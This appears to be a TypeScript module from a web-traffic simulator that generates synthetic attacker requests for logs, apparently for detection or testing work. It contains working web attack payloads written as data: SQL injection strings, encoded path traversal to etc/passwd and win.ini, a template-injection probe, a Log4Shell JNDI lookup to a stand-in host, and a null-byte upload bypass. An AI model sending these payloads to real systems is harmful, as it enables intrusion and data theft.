/** Code in queries, in plain and in other spellings. */
import type { Random } from '../../../src/simulate/random.ts';
import { word } from '../draw.ts';
import type { Base } from './kinds.ts';

const INJECTIONS: readonly ((number: number) => string)[] = [
  (number) => `${number}' OR '${number}'='${number}`,
  (number) => `${number} UNION SELECT ${number},user(),${number + 1}-- -`,
  (number) => `${number}) AND SLEEP(${number % 9})-- `,
  (number) => `${number} AND ${number}=${number + 1}`,
  (number) => `(SELECT ${number} FROM(SELECT COUNT(*))x)`,
];

/** Files of the host, by way of a page that includes what its query names. */
export const CLIMB: Base = {
  kind: 'inject',
  attacker:
    ({ random, site }) =>
    () => ({ ...site.home, path: `/?page=${random.pick(['../', '..%2f']).repeat(random.int(2, 6))}${word(random)}` }),
};

/** Code in other spellings, and beside what JSON and lists have. */
export const SPELT: readonly ((number: number) => string)[] = [
  (number) => `${'%252e%252e%252f'.repeat(4)}etc/passwd${number}`,
  (number) => `${'%2e%2e/'.repeat(4)}win${number}.ini`,
  (number) => `${number}/**/UNION/**/SELECT/**/${number}`,
  (number) => `{{${number}*${number}}}`,
  (number) => `$%7Bjndi:ldap://x${number}.example/a%7D`,
  (number) => `${number}'%20OR%20'${number}'='${number}&x[]=1&y={}`,
  (number) => `x${number}.php%00.png`,
];

export function inject(
  failing: number,
  spell = (number: number, random: Random) => encodeURIComponent(random.pick(INJECTIONS)(number)),
): Base {
  return {
    kind: 'inject',
    attacker: ({ random, site }) => {
      const [page, key] = [random.pick(site.pages.slice(0, 10)), random.pick(['id', 'cat', 'p'])];
      return () => ({
        path: `${page.path}?${key}=${spell(random.int(1, 9999), random)}`,
        status: random.chance(failing) ? 500 : 200,
        bytes: random.int(500, 20_000),
      });
    },
  };
}
